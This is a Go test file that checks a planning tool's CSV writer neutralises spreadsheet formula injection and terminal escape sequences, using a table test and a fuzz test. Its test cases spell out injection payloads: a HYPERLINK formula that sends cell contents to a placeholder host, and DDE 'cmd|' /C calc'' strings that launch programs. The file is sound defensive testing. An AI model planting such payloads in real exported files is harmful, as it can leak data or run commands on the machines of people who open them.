package render

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/plan-tool/plan/internal/textsafe"
	"github.com/plan-tool/plan/plan"
)

// TestCSVFormulas: text that a spreadsheet would run as a formula is
// written with a ' before it; numbers, negative ones too, and ordinary
// text are written as they are; and the CSV reads back.
func TestCSVFormulas(t *testing.T) {
	cells := map[string]string{
		`=HYPERLINK("http://x.invalid/?"&A1,"Click")`: `'=HYPERLINK("http://x.invalid/?"&A1,"Click")`,
		"+44 20 7946 0000":                            "'+44 20 7946 0000",
		"-cmd|' /C calc'!A0":                          "'-cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!":                   "'@SUM(1+1)*cmd|' /C calc'!",
		"\t=1+1":                                      "'\t=1+1",
		"\r=1+1":                                      `\r=1+1`, // made visible, so no longer a formula
		"-5":                                          "-5",
		"+3.5":                                        "+3.5",
		"1e3":                                         "1e3",
		"2026-11-24":                                  "2026-11-24",
		"Recruit 20 social workers":                   "Recruit 20 social workers",
		"":                                            "",
		"a\x1b[2Jb":                                   `a\x1b[2Jb`,
	}
	for in, want := range cells {
		var b bytes.Buffer
		cw := newCSV(&b)
		if err := cw.WriteAll([][]string{{in, "x"}}); err != nil {
			t.Fatal(err)
		}
		rec, err := csv.NewReader(&b).Read()
		if err != nil {
			t.Fatalf("%q: the CSV does not read back: %v", in, err)
		}
		if rec[0] != want {
			t.Errorf("cell %q written as %q, want %q", in, rec[0], want)
		}
	}
}

// FuzzCSV writes any text as a CSV cell: it reads back as one cell, a
// spreadsheet would not run it as a formula (it does not begin =, +, -, @,
// tab or CR unless it is a plain number), it holds nothing that acts on a
// terminal, and safe text is written as it is or with a ' before it.
func FuzzCSV(f *testing.F) {
	for _, s := range []string{"=1+1", "-5", "+3.5e2", "@A1", "\t=1", "\r=1", "plain", "\"quoted, with comma\"", "a\nb", "\x1b[2J"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var b bytes.Buffer
		if err := newCSV(&b).WriteAll([][]string{{s, "next"}}); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(recs) != 1 || len(recs[0]) != 2 || recs[0][1] != "next" {
			t.Fatalf("%q does not read back as one cell: %q, %v", s, recs, err)
		}
		cell := recs[0][0]
		if cell != "" && strings.ContainsRune("=+-@\t\r:", rune(cell[0])) && !plan.IsDecimal(cell) {
			t.Fatalf("%q written as %q, which a spreadsheet runs as a formula", s, cell)
		}
		if i, r := textsafe.First(cell); i >= 0 {
			t.Fatalf("%q written as %q, which holds %s", s, cell, textsafe.Name(r))
		}
		if i, _ := textsafe.First(s); i < 0 && utf8.ValidString(s) && cell != s && cell != "'"+s {
			t.Fatalf("%q written as %q: only a leading ' may be added", s, cell)
		}
	})
}
